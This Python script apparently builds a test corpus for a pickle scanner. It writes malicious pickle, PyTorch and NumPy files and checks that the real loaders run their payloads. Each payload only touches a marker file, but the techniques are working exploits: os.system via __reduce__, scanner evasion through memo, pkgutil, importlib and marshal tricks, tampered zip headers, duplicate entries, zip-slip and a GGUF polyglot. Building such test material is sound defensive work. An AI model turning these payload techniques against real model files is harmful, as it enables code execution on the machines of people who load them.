#!/usr/bin/python3
"""Makes malicious pickle-based files with Python's own pickle, torch and numpy, and proves
that they are real by loading them with the real loaders.

    malicious.py make DIR    writes the files and DIR/manifest.json
    malicious.py prove DIR   loads every file that has a loader (pickle.load, torch.load,
                             np.load(allow_pickle=True)) in a child process, checks that its
                             marker file appeared, deletes it; prints {"file": true|false}

Every payload is harmless: it runs `touch DIR/MARKER-<name>`. The manifest lists, per file,
its marker, its loader ("pickle": pickle.load until the end of the file, "torch", "numpy",
or null when nothing loads it), and the globals the file imports that a scanner must name.
Run with Debian's /usr/bin/python3 (torch 1.13, numpy).
"""
import io
import json
import os
import pickle
import struct
import subprocess
import sys
import tarfile
import warnings
import zipfile


def command(d, name):
    return "touch " + os.path.join(d, "MARKER-" + name)


class Evil:
    """os.system(cmd) through __reduce__: pickle writes the global as posix.system."""

    def __init__(self, cmd):
        self.cmd = cmd

    def __reduce__(self):
        return (os.system, (self.cmd,))


def op_str(s):
    """SHORT_BINUNICODE (protocol 4), or BINUNICODE for long strings."""
    b = s.encode()
    if len(b) < 256:
        return b"\x8c" + bytes([len(b)]) + b
    return b"X" + struct.pack("<I", len(b)) + b


def op_bin_str(s):
    """BINUNICODE (protocol 2)."""
    b = s.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def global_op(module, name):
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def raw_pickles(d):
    """Raw pickle files: name -> (bytes, globals a scanner must name)."""
    out = {}
    for proto in (0, 2, 4):
        out[f"reduce_p{proto}.pkl"] = (pickle.dumps(Evil(command(d, f"reduce_p{proto}")),
                                                    protocol=proto), ["posix.system"])
    # Protocol 0 INST and protocol 1 OBJ call the class with the marked arguments.
    cmd = command(d, "inst_p0")
    out["inst_p0.pkl"] = (b"(S'" + cmd.encode() + b"'\nios\nsystem\n.", ["os.system"])
    cmd = command(d, "obj_p1")
    out["obj_p1.pkl"] = (b"(" + global_op("os", "system") + b"S'" + cmd.encode() + b"'\no.",
                         ["os.system"])
    # getattr(__import__('os'), 'system')(cmd)
    cmd = command(d, "getattr")
    out["getattr.pkl"] = (b"\x80\x02" + global_op("builtins", "getattr") +
                          global_op("builtins", "__import__") + op_bin_str("os") + b"\x85R" +
                          op_bin_str("system") + b"\x86R" + op_bin_str(cmd) + b"\x85R.",
                          ["builtins.getattr", "builtins.__import__"])
    # pkgutil.resolve_name('os:system')(cmd): os.system is never named as a global.
    cmd = command(d, "pkgutil")
    out["pkgutil.pkl"] = (b"\x80\x02" + global_op("pkgutil", "resolve_name") +
                          op_bin_str("os:system") + b"\x85R" + op_bin_str(cmd) + b"\x85R.",
                          ["pkgutil.resolve_name"])
    # operator.methodcaller('system', cmd)(importlib.import_module('os'))
    cmd = command(d, "importlib")
    out["importlib.pkl"] = (b"\x80\x02" + global_op("operator", "methodcaller") +
                            op_bin_str("system") + op_bin_str(cmd) + b"\x86R" +
                            global_op("importlib", "import_module") + op_bin_str("os") +
                            b"\x85R\x85R.", ["importlib.import_module", "operator.methodcaller"])
    # types.FunctionType(marshal.loads(code), {})()
    import marshal
    code = marshal.dumps(compile("__import__('os').system(%r)" % command(d, "marshal"),
                                 "<payload>", "exec"))
    out["marshal.pkl"] = (b"\x80\x02" + global_op("types", "FunctionType") +
                          global_op("marshal", "loads") + b"B" + struct.pack("<I", len(code)) +
                          code + b"\x85R}\x86R)R.", ["types.FunctionType", "marshal.loads"])
    # Memo trick: 'posix' and 'system' are stored in the memo as dict values, the dict is
    # dropped, and STACK_GLOBAL takes its names from the memo.
    cmd = command(d, "memo_stack_global")
    out["memo_stack_global.pkl"] = (
        b"\x80\x04}\x94(" + op_str("a") + b"\x94" + op_str("posix") + b"\x94" + op_str("b") +
        b"\x94" + op_str("system") + b"\x94u0h\x02h\x04\x93" + op_str(cmd) + b"\x85R.",
        ["posix.system"])
    # A payload with no STOP: pickle.load runs the call, then fails at the end of the data.
    out["no_stop.pkl"] = (pickle.dumps(Evil(command(d, "no_stop")), protocol=2)[:-1],
                          ["posix.system"])
    # A benign pickle, then a malicious one: a loader that reads pickles in a row runs both.
    out["concatenated.pkl"] = (pickle.dumps({"weights": [1.0, 2.0]}, protocol=2) +
                               pickle.dumps(Evil(command(d, "concatenated")), protocol=2),
                               ["posix.system"])
    # The payload after an integer of 2^70 (Python's ints have no size limit).
    out["after_big_int.pkl"] = (pickle.dumps((2 ** 70, Evil(command(d, "after_big_int"))),
                                             protocol=2), ["posix.system"])
    # The payload after INT '0x10' (pickle.load parses INT with base 0).
    out["after_hex_int.pkl"] = (b"I0x10\n0" + pickle.dumps(Evil(command(d, "after_hex_int")),
                                                           protocol=0), ["posix.system"])
    # A GGUF magic number that is also a pickle: BINFLOAT eats "GUF" and the version.
    out["polyglot.gguf"] = (b"GGUF\x03\x00\x00\x00\x00" +
                            pickle.dumps(Evil(command(d, "polyglot")), protocol=2),
                            ["posix.system"])
    return out


def rewrite_zip(src, dst, replace=None, extra=()):
    """Copies a zip (stored), optionally replacing entries, then adding (name, bytes) pairs."""
    replace = replace or {}
    with zipfile.ZipFile(src) as z, zipfile.ZipFile(dst, "w", zipfile.ZIP_STORED) as out:
        for info in z.infolist():
            data = replace.get(info.filename, z.read(info))
            out.writestr(zipfile.ZipInfo(info.filename), data)
        for name, data in extra:
            out.writestr(zipfile.ZipInfo(name), data)


def local_header_offset(path, name):
    with zipfile.ZipFile(path) as z:
        return z.getinfo(name).header_offset


def make(d):
    warnings.simplefilter("ignore")  # zipfile warns about the duplicate name, on purpose
    import numpy as np
    import torch
    os.makedirs(d, exist_ok=True)
    manifest = []

    def add(name, data, loader, refused, marker=None):
        """marker: the payload's name when it is not the file's stem."""
        with open(os.path.join(d, name), "wb") as f:
            f.write(data)
        marker = marker or name.rsplit(".", 1)[0]
        manifest.append({"file": name, "marker": "MARKER-" + marker if loader else None,
                         "loader": loader, "refused": refused, "reason": None})

    for name, (data, refused) in raw_pickles(d).items():
        add(name, data, "pickle", refused)

    # A real torch.save checkpoint whose state dict holds the payload next to a tensor.
    evil_pt = os.path.join(d, "torch_evil.pt")
    torch.save({"w": torch.arange(4, dtype=torch.float32), "x": Evil(command(d, "torch_evil"))},
               evil_pt)
    manifest.append({"file": "torch_evil.pt", "marker": "MARKER-torch_evil", "loader": "torch",
                     "refused": ["posix.system"], "reason": None})
    with zipfile.ZipFile(evil_pt) as z:
        top = z.namelist()[0].split("/")[0]
        pkl = top + "/data.pkl"
    good_pt = os.path.join(d, "good.tmp")
    torch.save({"w": torch.arange(4, dtype=torch.float32)}, good_pt)
    with zipfile.ZipFile(good_pt) as z:
        good_top = z.namelist()[0].split("/")[0]

    # The local header names data.pkl differently from the central directory (torch reads the
    # central name; zipfile refuses the archive).
    data = bytearray(open(evil_pt, "rb").read())
    off = local_header_offset(evil_pt, pkl)
    n = struct.unpack_from("<H", data, off + 26)[0]
    assert data[off + 30:off + 30 + n] == pkl.encode()
    data[off + 30 + n - 3:off + 30 + n] = b"txt"
    add("tamper_local_name.pt", bytes(data), "torch", ["posix.system"], marker="torch_evil")
    # The local header of data.pkl says "encrypted" (torch takes the flags from the central
    # directory and loads it).
    data = bytearray(open(evil_pt, "rb").read())
    flags = struct.unpack_from("<H", data, off + 6)[0]
    struct.pack_into("<H", data, off + 6, flags | 1)
    add("tamper_local_flag.pt", bytes(data), "torch", ["posix.system"], marker="torch_evil")
    # Two data.pkl entries: a benign one first, the payload second (torch loads the last).
    dup = os.path.join(d, "duplicate_data_pkl.pt")
    evil = pickle.dumps(Evil(command(d, "duplicate_data_pkl")), protocol=2)
    with zipfile.ZipFile(good_pt) as z, zipfile.ZipFile(dup, "w", zipfile.ZIP_STORED) as out:
        for info in z.infolist():
            out.writestr(zipfile.ZipInfo(info.filename), z.read(info))
            if info.filename.endswith("/data.pkl"):
                out.writestr(zipfile.ZipInfo(info.filename), evil)
    manifest.append({"file": "duplicate_data_pkl.pt", "marker": "MARKER-duplicate_data_pkl",
                     "loader": "torch", "refused": ["posix.system"], "reason": None})
    # A zip-slip entry in an otherwise benign checkpoint.
    rewrite_zip(good_pt, os.path.join(d, "zip_slip.pt"), extra=[("../escaped.txt", b"x")])
    manifest.append({"file": "zip_slip.pt", "marker": None, "loader": None, "refused": [],
                     "reason": "zip-slip"})
    # A payload in a .pkl entry that torch.load does not read (another loader may).
    rewrite_zip(good_pt, os.path.join(d, "extra_pkl.pt"),
                extra=[(good_top + "/extra.pkl",
                        pickle.dumps(Evil(command(d, "extra_pkl")), protocol=2))])
    manifest.append({"file": "extra_pkl.pt", "marker": None, "loader": None,
                     "refused": ["posix.system"], "reason": None})
    # A checkpoint whose data.pkl was replaced by a bare payload.
    rewrite_zip(good_pt, os.path.join(d, "replaced_data_pkl.pt"),
                replace={good_top + "/data.pkl":
                         pickle.dumps(Evil(command(d, "replaced_data_pkl")), protocol=2)})
    manifest.append({"file": "replaced_data_pkl.pt", "marker": "MARKER-replaced_data_pkl",
                     "loader": "torch", "refused": ["posix.system"], "reason": None})
    os.remove(good_pt)

    # Legacy format (torch < 1.6 layout) with the payload in the object pickle.
    torch.save({"w": torch.arange(4, dtype=torch.float32), "x": Evil(command(d, "legacy_evil"))},
               os.path.join(d, "legacy_evil.pt"), _use_new_zipfile_serialization=False)
    manifest.append({"file": "legacy_evil.pt", "marker": "MARKER-legacy_evil", "loader": "torch",
                     "refused": ["posix.system"], "reason": None})

    # The tar layout of torch < 0.4, which torch.load still reads first.
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for name, data in [("sys_info", pickle.dumps({"protocol_version": 1001}, protocol=2)),
                           ("storages", pickle.dumps(0, protocol=2) + pickle.dumps([], protocol=2)),
                           ("tensors", pickle.dumps(0, protocol=2)),
                           ("pickle", pickle.dumps(Evil(command(d, "tar_evil")), protocol=2))]:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    add("tar_evil.tar", buf.getvalue(), "torch", ["posix.system"])

    # NumPy object arrays: the array is a pickle after the header.
    arr = np.empty(2, dtype=object)
    arr[0] = 1
    arr[1] = Evil(command(d, "object_array"))
    np.save(os.path.join(d, "object_array.npy"), arr, allow_pickle=True)
    manifest.append({"file": "object_array.npy", "marker": "MARKER-object_array",
                     "loader": "numpy", "refused": ["posix.system"], "reason": None})
    arr[1] = Evil(command(d, "object_array_npz"))
    np.savez(os.path.join(d, "object_array_npz.npz"), a=np.arange(3, dtype=np.float32), b=arr)
    manifest.append({"file": "object_array_npz.npz", "marker": "MARKER-object_array_npz",
                     "loader": "numpy", "refused": ["posix.system"], "reason": None})

    with open(os.path.join(d, "manifest.json"), "w") as f:
        json.dump(manifest, f, indent=1)


def load(path, loader):
    """Runs in a child process: what a user's program would do with the file."""
    if loader == "pickle":
        with open(path, "rb") as f:
            while True:
                try:
                    pickle.load(f)
                except EOFError:
                    return
    elif loader == "torch":
        import torch
        torch.load(path)
    elif loader == "numpy":
        import numpy as np
        with np.load(path, allow_pickle=True) as z:
            if hasattr(z, "files"):
                for k in z.files:
                    z[k]


def prove(d):
    with open(os.path.join(d, "manifest.json")) as f:
        manifest = json.load(f)
    result = {}
    for m in manifest:
        if not m["loader"]:
            continue
        marker = os.path.join(d, m["marker"])
        if os.path.exists(marker):
            os.remove(marker)
        subprocess.run([sys.executable, os.path.abspath(__file__), "load",
                        os.path.join(d, m["file"]), m["loader"]],
                       stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=120)
        result[m["file"]] = os.path.exists(marker)
        if os.path.exists(marker):
            os.remove(marker)
    print(json.dumps(result, indent=1))
    return 0 if all(result.values()) else 1


if __name__ == "__main__":
    if len(sys.argv) == 3 and sys.argv[1] == "make":
        make(sys.argv[2])
    elif len(sys.argv) == 3 and sys.argv[1] == "prove":
        sys.exit(prove(sys.argv[2]))
    elif len(sys.argv) == 4 and sys.argv[1] == "load":
        load(sys.argv[2], sys.argv[3])
    else:
        sys.exit(__doc__)
